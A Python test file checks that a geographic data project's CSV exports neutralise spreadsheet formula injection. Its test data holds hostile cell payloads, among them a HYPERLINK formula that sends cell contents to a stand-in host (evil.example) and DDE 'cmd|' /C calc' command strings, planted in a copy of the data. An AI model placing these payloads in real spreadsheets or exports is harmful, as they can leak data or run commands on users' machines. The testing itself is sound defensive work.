"""No CSV the project writes has a cell a spreadsheet would run (OWASP, "CSV Injection")."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from geo.safe_csv import FORMULA_STARTS, neutralise, to_csv, to_csv_bytes

ROOT = Path(__file__).resolve().parent.parent

#: Cells as a hostile record could hold them, and what the CSV must hold instead.
CELLS = [
    ('=HYPERLINK("https://evil.example/?"&A1,"source")', '\'=HYPERLINK("https://evil.example/?"&A1,"source")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("  =1+1", "'  =1+1"),  # spreadsheets skip the spaces
    ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
    ("Shusha", "Shusha"),
    ("Azerbaijan said 2+2=4", "Azerbaijan said 2+2=4"),
    ("", ""),
    ("'already quoted", "'already quoted"),
]


@pytest.mark.parametrize("value,expected", CELLS, ids=[repr(c[0])[:30] for c in CELLS])
def test_a_cell_that_starts_like_a_formula_is_written_as_text(value, expected):
    assert neutralise(value) == expected
    written = to_csv(pd.DataFrame({"note": [value], "feature": [-3]}))
    assert list(csv.reader(io.StringIO(written, newline=""))) == [["note", "feature"], [expected, "-3"]]


def test_numbers_and_missing_values_are_left_alone():
    df = pd.DataFrame({"lon": [-46.5, None], "count": [-1, 2], "flag": [True, False], "text": [None, "-"]})
    rows = list(csv.reader(io.StringIO(to_csv(df))))
    assert rows == [["lon", "count", "flag", "text"], ["-46.5", "-1", "True", ""], ["", "2", "False", "'-"]]
    assert to_csv_bytes(df) == to_csv(df).encode("utf-8")


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) or cell.lstrip(" ").startswith(FORMULA_STARTS)


def hostile_record(folder: Path) -> Path:
    """A copy of the record in which Shusha's names and one claim's texts are formulas."""
    shutil.copytree(ROOT / "data", folder, ignore=shutil.ignore_patterns("*.py", "*.md"))
    places = folder / "places" / "settlements.geojson"
    doc = json.loads(places.read_bytes())
    for feature in doc["features"]:
        if feature["properties"]["id"] == "shusha":
            feature["properties"]["names"].update(en="=1+1", az="+SUM(A1:A9)", hy_latn="@cmd", ru="-2+3")
    places.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    claims = folder / "claims" / "2020_war_oct_dec.geojson"
    doc = json.loads(claims.read_bytes())
    props = next(f["properties"] for f in doc["features"] if f["properties"]["place"] == "shusha")
    props.update(statement='=HYPERLINK("https://evil.example","read")', note="\t=1+1")
    props["source"].update(title="@SUM(1+1)", publisher="-cmd|' /C calc'!A0")
    claims.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    return hostile_record(tmp_path_factory.mktemp("hostile") / "data")


@pytest.mark.parametrize("command", [["claims"], ["state", "--date", "2020-11-08"], ["places"]])
def test_no_cell_of_the_commands_csv_would_run_in_a_spreadsheet(hostile, command):
    result = subprocess.run(
        [sys.executable, "-m", "geo", *command, "--format", "csv"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "KCM_DATA": str(hostile)},
    )
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if runs_as_formula(cell)]
    assert any(cell.startswith("'=1+1") for cell in cells)  # the hostile text is there, as text
    if command == ["claims"]:
        assert '\'=HYPERLINK("https://evil.example","read")' in cells and "'\t=1+1" in cells
        assert "'@SUM(1+1)" in cells and "'-cmd|' /C calc'!A0" in cells


def test_every_csv_the_project_writes_goes_through_safe_csv():
    """No other module writes CSV itself (pandas' to_csv, the csv module's writers)."""
    pattern = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")
    offenders = []
    for path in sorted(ROOT.glob("**/*.py")):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "mutants/", "tests/")) or relative == "geo/safe_csv.py":
            continue
        offenders += [
            f"{relative}:{n}"
            for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
            if pattern.search(line) and "safe_csv" not in line
        ]
    assert offenders == []
